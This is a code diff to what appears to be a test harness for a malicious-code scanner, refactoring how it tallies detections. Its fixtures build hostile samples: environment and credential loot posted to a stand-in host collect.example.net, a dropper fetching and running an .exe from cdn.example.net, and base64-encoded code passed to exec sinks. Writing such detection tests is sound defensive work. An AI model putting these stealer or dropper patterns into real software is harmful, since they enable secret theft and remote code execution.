@@ -335,6 +335,18 @@ def _judged_twice(policy: ScanPolicy, code: str) -> dict[str, tuple[bool, float]
     return judged
 
 
+def _tally(policy: ScanPolicy, cases: dict[str, str]) -> tuple[int, list[str]]:
+    """How many placements (``_judged_twice``) of ``cases`` (label -> code) are held, and the
+    ones not, each as "label (place): score"."""
+    held, missed = 0, []
+    for label, code in cases.items():
+        for place, (ok, score) in _judged_twice(policy, code).items():
+            held += ok
+            if not ok:
+                missed.append(f"{label} ({place}): {score:g}")
+    return held, missed
+
+
 #: What a stealer takes (``--matrix``): an import line and an expression of the loot.
 LOOT = {
     "environment": ("import os", "dict(os.environ)"),
@@ -485,15 +497,14 @@ def stores(policy: ScanPolicy) -> tuple[int, list[str]]:
         "session": "import requests\ns = requests.Session()\n"
         "s.post('https://collect.example.net/u', files={'f': str(LOOT)})",
     }
-    held, missed = 0, []
-    for name, taken in STORES.items():
-        for how, send in sends.items():
-            code = "import os\n" + send.replace("LOOT", taken) + "\n"
-            for place, (ok, _) in _judged_twice(policy, code).items():
-                held += ok
-                if not ok:
-                    missed.append(f"{name} ({how}, {place})")
-    return held, missed
+    return _tally(
+        policy,
+        {
+            f"{name}, {how}": "import os\n" + send.replace("LOOT", taken) + "\n"
+            for name, taken in STORES.items()
+            for how, send in sends.items()
+        },
+    )
 
 
 _PROGRAM_URL = "'https://cdn.example.net/a.exe'"
@@ -526,16 +537,16 @@ RUNS = {
 def droppers(policy: ScanPolicy) -> tuple[int, list[str]]:
     """How many of ``FETCHES`` x ``RUNS`` are held, as import-time code and from a function
     nothing calls; the placements not."""
-    held, missed = 0, []
     head = "import ctypes, os, subprocess, urllib.request, httpx, requests\n"
     head += "p = os.path.join(os.getenv('TEMP'), 'svc.exe')\n"
-    for fetch_name, fetch in FETCHES.items():
-        for run_name, run in RUNS.items():
-            for place, (ok, score) in _judged_twice(policy, f"{head}{fetch}\n{run}\n").items():
-                held += ok
-                if not ok:
-                    missed.append(f"{fetch_name} then {run_name} ({place}): {score:g}")
-    return held, missed
+    return _tally(
+        policy,
+        {
+            f"{fetch_name} then {run_name}": f"{head}{fetch}\n{run}\n"
+            for fetch_name, fetch in FETCHES.items()
+            for run_name, run in RUNS.items()
+        },
+    )
 
 
 #: Ways to run decoded code (``--sinks``), each with ``{payload}``.
@@ -568,14 +579,13 @@ def sinks(policy: ScanPolicy) -> tuple[int, list[str]]:
     code and from a function nothing calls; the placements not."""
     encoded = base64.b64encode(b"import os\nos.system('id')\n" * 4).decode()
     payload = f"base64.b64decode({encoded!r})"
-    held, missed = 0, []
-    for name, way in EXEC_WAYS.items():
-        code = "import base64\n" + way.replace("{payload}", payload) + "\n"
-        for place, (ok, score) in _judged_twice(policy, code).items():
-            held += ok
-            if not ok:
-                missed.append(f"{name} ({place}): {score:g}")
-    return held, missed
+    return _tally(
+        policy,
+        {
+            name: "import base64\n" + way.replace("{payload}", payload) + "\n"
+            for name, way in EXEC_WAYS.items()
+        },
+    )
 
 
 #: Ways import-time code makes a shipped script start with the machine (``--persistence``).
